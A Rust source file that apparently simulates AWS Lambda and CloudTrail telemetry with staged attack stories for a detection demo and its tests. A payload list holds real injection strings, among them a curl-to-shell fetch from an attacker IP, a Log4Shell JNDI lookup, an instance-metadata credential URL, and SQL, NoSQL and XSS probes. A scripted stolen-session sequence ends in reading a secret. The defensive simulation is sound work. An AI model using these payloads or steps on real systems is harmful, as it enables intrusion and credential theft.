//! The attack stories of the demo and the tests, written once: an event-injection campaign against an API
//! function, a function backdoored through AddPermission and a code overwrite and then turned miner, its
//! neighbour's execution-role credentials used from outside AWS, and a denial-of-wallet flood. `Cast`
//! chooses the functions they happen to; `Stories` says what happens when, as injections into the
//! generator, payloads of invocations and CloudTrail records; `World` plays a fleet with its routine and
//! the stories minute by minute, as the demo delivers it. The campaign, the backdoor and the stolen session
//! are three actors, each from an address of its own: four stories, four incidents.

use arrow::array::RecordBatch;
use serde_json::{json, Value};
use store::time::MICROS_PER_MINUTE;

use crate::cloudtrail::{event_time, record, role_session, routine, Team};
use crate::fleet::{caller, FunctionProfile, Trigger};
use crate::generator::{Anomaly, Generator, Injection, Invocation};
use crate::render::{invocations_batch, render_minute, RenderedMinute};
use crate::rng::Rng;

/// The injection campaign's address (a Tor exit).
pub const ATTACKER_IP: &str = "185.220.101.34";
/// Where the contractor's leaked access key is used from: another actor, unrelated to the campaign.
pub const CONTRACTOR_KEY_IP: &str = "45.137.21.9";
/// Where the stolen role session is used from: a third actor.
pub const SESSION_THIEF_IP: &str = "103.251.167.20";
/// The tool of the key's and the session's users on the AWS APIs.
pub const ATTACKER_AGENT: &str = "aws-cli/2.13.0 Python/3.11.4 Darwin/23.0.0 source/x86_64";
/// The injection campaign's scanner.
pub const SCANNER_AGENT: &str = "sqlmap/1.7.2#stable (https://sqlmap.org)";
/// The principal whose keys the attacker holds.
pub const CONTRACTOR: &str = "arn:aws:iam::123456789012:user/dev-contractor";

/// Attack payloads of the injection campaign, as a scanner sends them. The cross-site scripting probes
/// also reach the console's pages as stored text (its browser test checks that none runs).
pub const CAMPAIGN: [&str; 11] = [
    "1' UNION SELECT username, password FROM users--",
    "1%27%20OR%201%3D1--",
    "; curl http://185.220.101.34/x.sh | sh",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "${jndi:ldap://185.220.101.34:1389/a}",
    "../../../../proc/self/environ",
    "{{7*7}}",
    "{\"username\":\"admin\",\"password\":{\"$ne\":null}}",
    "<script>document.title='pwned-script'</script>",
    "\"><img src=x onerror=\"document.title='pwned-img'\">",
    "javascript:document.title='pwned-link'",
];

/// The functions each story happens to, by index in the fleet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Cast {
    /// Scanned by the injection campaign.
    pub api: usize,
    /// Opened to everyone, its code replaced, then mining.
    pub backdoored: usize,
    /// Its execution role's session is used from outside.
    pub stolen: usize,
    /// Flooded (denial of wallet).
    pub flooded: usize,
}

impl Cast {
    /// Chooses the cast from a fleet of at least 4 functions; two of them get an API in front when
    /// fewer have one, since the campaign and the flood come through HTTP.
    pub fn choose(functions: &mut [FunctionProfile], seed: u64) -> Result<Cast, String> {
        if functions.len() < 4 {
            return Err("the stories need at least 4 functions".into());
        }
        let mut http: Vec<usize> = (0..functions.len()).filter(|i| functions[*i].trigger.is_http()).collect();
        let mut rng = Rng::new(seed ^ 0xa91);
        for (i, function) in functions.iter_mut().enumerate() {
            if http.len() >= 2 {
                break;
            }
            if !http.contains(&i) {
                function.trigger = Trigger::ApiGateway;
                function.callers = (0..6).map(|c| caller(Trigger::ApiGateway, i, c, &mut rng)).collect();
                http.push(i);
            }
        }
        let others: Vec<usize> = (0..functions.len()).filter(|i| *i != http[0] && *i != http[1]).collect();
        Ok(Cast { api: http[0], flooded: http[1], backdoored: others[0], stolen: others[1] })
    }
}

/// An API Gateway event carrying `attack` in its query string, from the scanner.
pub fn attack_payload(path: &str, attack: &str) -> String {
    json!({
        "resource": "/{proxy+}",
        "path": path,
        "httpMethod": "GET",
        "headers": {"User-Agent": SCANNER_AGENT, "Host": "api.example.com"},
        "queryStringParameters": {"q": attack},
        "requestContext": {"identity": {"sourceIp": ATTACKER_IP}, "stage": "prod"},
        "isBase64Encoded": false
    })
    .to_string()
}

/// Calls of a stolen role session, 15 seconds apart from `at_us`: who am I, what is there, the secrets.
pub fn stolen_session_calls(rng: &mut Rng, identity: &Value, at_us: i64, ip: &str, agent: &str) -> Vec<(i64, Value)> {
    [
        ("sts.amazonaws.com", "GetCallerIdentity", json!({})),
        ("s3.amazonaws.com", "ListBuckets", json!({})),
        ("secretsmanager.amazonaws.com", "ListSecrets", json!({})),
        ("secretsmanager.amazonaws.com", "GetSecretValue", json!({"secretId": "prod/db/password"})),
    ]
    .into_iter()
    .enumerate()
    .map(|(idx, (source, name, request))| {
        let ts = at_us + idx as i64 * 15_000_000;
        (ts, record(rng, ts, source, name, identity.clone(), ip, agent, request, Value::Null))
    })
    .collect()
}

/// The stories of one run, relative to the minute live time starts.
#[derive(Debug, Clone)]
pub struct Stories {
    pub cast: Cast,
    pub live_us: i64,
    pub seed: u64,
}

impl Stories {
    fn at(&self, minute: i64, second: i64) -> i64 {
        self.live_us + minute * MICROS_PER_MINUTE + second * 1_000_000
    }

    /// What the generator must inject: the backdoored function mining from minute 5 to 40, the flooded
    /// one at 25 times its traffic from minute 8 to 23.
    pub fn injections(&self) -> [Injection; 2] {
        [
            Injection {
                function_idx: self.cast.backdoored,
                anomaly: Anomaly::CryptoMining,
                start_us: self.at(5, 0),
                end_us: self.at(40, 0),
            },
            Injection {
                function_idx: self.cast.flooded,
                anomaly: Anomaly::Spike { factor: 25.0 },
                start_us: self.at(8, 0),
                end_us: self.at(23, 0),
            },
        ]
    }

    /// During minutes 2 to 11 of live time, every third request of the API function is the scanner's.
    pub fn inject_campaign(&self, minute: i64, invocations: &mut [Invocation]) {
        if !(2..12).contains(&minute) {
            return;
        }
        let api = invocations.iter_mut().filter(|i| i.function_idx == self.cast.api);
        for (k, invocation) in api.enumerate().map(|(idx, inv)| (idx + 1, inv)) {
            if k.is_multiple_of(3) {
                let attack = CAMPAIGN[(k / 3 + minute as usize) % CAMPAIGN.len()];
                invocation.event_payload = attack_payload(invocation.http_path.as_deref().unwrap_or("/"), attack);
                invocation.caller.source_ip = Some(ATTACKER_IP.to_string());
                invocation.caller.user_agent = Some(SCANNER_AGENT.to_string());
            }
        }
    }

    /// The stories' CloudTrail records, at their times: the backdoor at minute 4, the stolen session at
    /// minute 6. `names` are the fleet's function names.
    pub fn trail(&self, names: &[String]) -> Vec<(i64, Value)> {
        let mut rng = Rng::new(self.seed ^ 0x5707);
        let contractor = json!({"type": "IAMUser", "principalId": "AIDADEVCONTRACTOR", "arn": CONTRACTOR, "accountId": "123456789012", "accessKeyId": "AKIADEVCONTRACTOR01", "userName": "dev-contractor"});
        let victim = &names[self.cast.backdoored];
        let permission = json!({"functionName": victim, "statementId": "public-invoke", "action": "lambda:InvokeFunction", "principal": "*"});
        let statement = json!({"statement": "{\"Sid\":\"public-invoke\",\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"lambda:InvokeFunction\"}"});
        let code = json!({"functionName": victim, "codeSha256": "bWluZXItcGF5bG9hZC0xMzM3", "version": "99"});
        let (opened, replaced) = (self.at(4, 0), self.at(4, 40));
        let lambda = "lambda.amazonaws.com";
        let mut out = vec![
            (
                opened,
                record(
                    &mut rng,
                    opened,
                    lambda,
                    "AddPermission20150331v2",
                    contractor.clone(),
                    CONTRACTOR_KEY_IP,
                    ATTACKER_AGENT,
                    permission,
                    statement,
                ),
            ),
            (
                replaced,
                record(
                    &mut rng,
                    replaced,
                    lambda,
                    "UpdateFunctionCode20150331v2",
                    contractor,
                    CONTRACTOR_KEY_IP,
                    ATTACKER_AGENT,
                    json!({"functionName": victim, "publish": true}),
                    code,
                ),
            ),
        ];
        let stolen = &names[self.cast.stolen];
        let role = format!("arn:aws:iam::123456789012:role/{stolen}-exec");
        let identity = role_session(&role, stolen, "ASIASTOLENDEMO000001");
        out.extend(stolen_session_calls(&mut rng, &identity, self.at(6, 0), SESSION_THIEF_IP, ATTACKER_AGENT));
        out
    }
}

/// One minute of a `World`.
#[derive(Debug)]
pub struct WorldMinute {
    /// Relative to live time: negative minutes are history.
    pub minute: i64,
    pub invocations: u64,
    /// History: the minute's invocations as `invocations` rows.
    pub rows: Option<RecordBatch>,
    /// Live time: the minute as AWS delivers it (log lines in subscription payloads, X-Ray segments of 5%
    /// of the invocations, every failed one and every request from the attacker).
    pub rendered: Option<RenderedMinute>,
    /// CloudTrail records whose event time falls in the minute.
    pub trail: Vec<Value>,
}

/// A fleet, its team's routine CloudTrail and the stories, minute by minute: `history_minutes` before
/// live time as invocation rows, quickly; from live time on, rendered as AWS delivers it.
pub struct World {
    functions: Vec<FunctionProfile>,
    generator: Generator,
    stories: Stories,
    trail: std::iter::Peekable<std::vec::IntoIter<(i64, Value)>>,
    render_rng: Rng,
    next_event_id: u64,
    minute: i64,
}

impl World {
    /// `cast` from `Cast::choose` over `functions`; live time starts at `live_us`, a minute boundary.
    pub fn new(functions: Vec<FunctionProfile>, cast: Cast, seed: u64, live_us: i64, history_minutes: i64) -> World {
        let stories = Stories { cast, live_us, seed };
        let mut generator = Generator::new(functions.clone(), seed);
        for injection in stories.injections() {
            generator.inject(injection);
        }
        let names: Vec<String> = functions.iter().map(|f| f.name.clone()).collect();
        let start_us = live_us - history_minutes * MICROS_PER_MINUTE;
        // The routine goes two days past live time.
        let hours = history_minutes / 60 + 48;
        let mut trail: Vec<(i64, Value)> =
            routine(&Team::new(&names), start_us, hours, seed).into_iter().map(|r| (event_time(&r), r)).collect();
        trail.extend(stories.trail(&names));
        trail.sort_by_key(|(ts, _)| *ts);
        World {
            functions,
            generator,
            stories,
            trail: trail.into_iter().peekable(),
            render_rng: Rng::new(seed ^ 0x11fe),
            next_event_id: 0,
            minute: -history_minutes,
        }
    }

    /// Starts at live time: for a store that holds an earlier run's history.
    pub fn skip_history(&mut self) {
        let live_us = self.stories.live_us;
        while self.trail.next_if(|(ts, _)| *ts < live_us).is_some() {}
        self.minute = self.minute.max(0);
    }

    pub fn stories(&self) -> &Stories {
        &self.stories
    }

    /// The next minute.
    pub fn next_minute(&mut self) -> WorldMinute {
        let minute = self.minute;
        self.minute += 1;
        let minute_us = self.stories.live_us + minute * MICROS_PER_MINUTE;
        let mut invocations = Vec::new();
        self.generator.minute(minute_us, &mut invocations);
        self.stories.inject_campaign(minute, &mut invocations);
        let (rows, rendered) = if minute < 0 {
            (invocations_batch(&self.functions, &invocations), None)
        } else {
            let traced = |invocation: &Invocation, rng: &mut Rng| {
                invocation.caller.source_ip.as_deref() == Some(ATTACKER_IP)
                    || invocation.status != "success"
                    || rng.chance(0.05)
            };
            let rendered =
                render_minute(&self.functions, &invocations, &mut self.render_rng, &mut self.next_event_id, traced);
            (None, Some(rendered))
        };
        let mut trail = Vec::new();
        while let Some((_, record)) = self.trail.next_if(|(ts, _)| *ts < minute_us + MICROS_PER_MINUTE) {
            trail.push(record);
        }
        WorldMinute { minute, invocations: invocations.len() as u64, rows, rendered, trail }
    }
}

impl WorldMinute {
    /// The minute's CloudWatch Logs subscription payloads (live time; none in history).
    pub fn payloads(&self) -> Vec<&Value> {
        self.rendered.iter().flat_map(|r| r.payloads.iter().map(|(_, _, payload)| payload)).collect()
    }

    /// The minute's X-Ray segment documents (live time; none in history).
    pub fn segments(&self) -> Vec<&Value> {
        self.rendered.iter().flat_map(|r| r.segments.iter().map(|(_, segment)| segment)).collect()
    }
}

/// The demo's clock over a `World`: history as fast as it goes, then one live minute each `60 / speed`
/// wall-clock seconds from the moment live time began, with a line worth printing now and then.
#[derive(Debug)]
pub struct Pace {
    speed: f64,
    started: std::time::Instant,
    invocations: u64,
    live_started: Option<std::time::Instant>,
}

/// What follows one stored minute.
#[derive(Debug, PartialEq)]
pub struct Step {
    /// When the next minute is due; `None`: at once (history).
    pub due: Option<std::time::Instant>,
    pub report: Option<String>,
}

impl Pace {
    /// `speed`: simulated seconds per wall-clock second, positive.
    pub fn new(speed: f64) -> Pace {
        Pace { speed, started: std::time::Instant::now(), invocations: 0, live_started: None }
    }

    /// After `minute` is stored. `resumed`: the store held an earlier run's history, so none was written.
    pub fn stored(&mut self, minute: &WorldMinute, resumed: bool) -> Step {
        self.invocations += minute.invocations;
        let mut report = None;
        if minute.minute == 0 {
            let history = if resumed {
                "history written by an earlier run".to_string()
            } else {
                let seconds = self.started.elapsed().as_secs_f64();
                format!("history written: {} invocations in {seconds:.1} s", self.invocations)
            };
            report =
                Some(format!("{history}; live now at {}x, attack stories start in 2 simulated minutes", self.speed));
            self.live_started = Some(std::time::Instant::now());
        }
        let next = minute.minute + 1;
        let Some(since) = self.live_started else { return Step { due: None, report } };
        if next % 10 == 0 {
            report = Some(format!("simulated {next} min live, {} invocations stored", self.invocations));
        }
        let due = since + std::time::Duration::from_secs_f64(next as f64 * 60.0 / self.speed);
        Step { due: Some(due), report }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn minute(minute: i64, invocations: u64) -> WorldMinute {
        WorldMinute { minute, invocations, rows: None, rendered: None, trail: Vec::new() }
    }

    #[test]
    fn history_goes_at_once_then_each_live_minute_is_due_at_its_pace() {
        let mut pace = Pace::new(120.0);
        for m in -3..0 {
            assert_eq!(pace.stored(&minute(m, 10), false), Step { due: None, report: None });
        }
        let live = pace.stored(&minute(0, 5), false);
        let report = live.report.expect("live time is announced");
        assert!(report.starts_with("history written: 35 invocations"), "{report}");
        let first = live.due.expect("live minutes are paced");
        // At 120x a simulated minute takes half a wall-clock second.
        let later = pace.stored(&minute(1, 5), false).due.unwrap();
        assert_eq!(later - first, std::time::Duration::from_millis(500));
        let tenth = (2..10).map(|m| pace.stored(&minute(m, 1), false)).last().unwrap();
        assert_eq!(tenth.report.as_deref(), Some("simulated 10 min live, 48 invocations stored"));
    }

    #[test]
    fn a_resumed_world_says_its_history_came_from_an_earlier_run() {
        let report = Pace::new(60.0).stored(&minute(0, 7), true).report.unwrap();
        assert!(report.starts_with("history written by an earlier run; live now at 60x"), "{report}");
    }
}
